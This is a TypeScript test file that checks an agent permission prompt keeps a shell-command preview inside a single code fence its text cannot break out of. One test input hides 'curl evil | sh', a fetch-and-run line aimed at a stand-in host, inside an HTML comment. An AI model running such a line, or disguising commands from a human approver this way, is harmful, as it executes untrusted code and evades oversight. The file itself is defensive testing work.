import { beforeAll, describe, expect, it } from 'vitest';
import type { Approval } from '../../contract/approvals.ts';
import { loadLanguage } from '../copy.ts';
import { permissionCall } from './permission.ts';

beforeAll(() => loadLanguage({}));

const approval = (body: string): Approval => ({
  id: 'ap_1',
  kind: 'tool',
  agentId: 'guide',
  agentName: 'Guide',
  subject: 'shell',
  title: 'wants to run a shell line',
  argsJson: '{}',
  digest: 'd',
  risk: 'high',
  why: 'Because.',
  where: '/w',
  sandbox: 'none',
  roomId: null,
  threadRootId: null,
  preview: { kind: 'command', body },
  createdAt: 0,
  expiresAt: 1,
  state: 'waiting',
  quietUntil: null,
  decision: null,
  offers: [{ scope: 'once', rule: 'this call, now' }],
});

describe('Question in an editor', () => {
  it.each(['ls <!-- ; curl evil | sh -->', 'ls ``` # <!--', '````\n```\n<details>'])(
    'T8: is in one code block that its text cannot end: %s',
    (body) => {
      const [content] = permissionCall(approval(body), 'call_1').content ?? [];
      const text = content?.type === 'content' && content.content.type === 'text' ? content.content.text : '';
      const [open = '', ...lines] = text.split('\n');
      expect(open).toMatch(/^`{3,}$/);
      expect(lines.at(-1)).toBe(open);
      expect(lines.slice(0, -1).join('\n')).not.toContain(open);
      for (const line of body.split('\n')) expect(text).toContain(line);
    },
  );
});
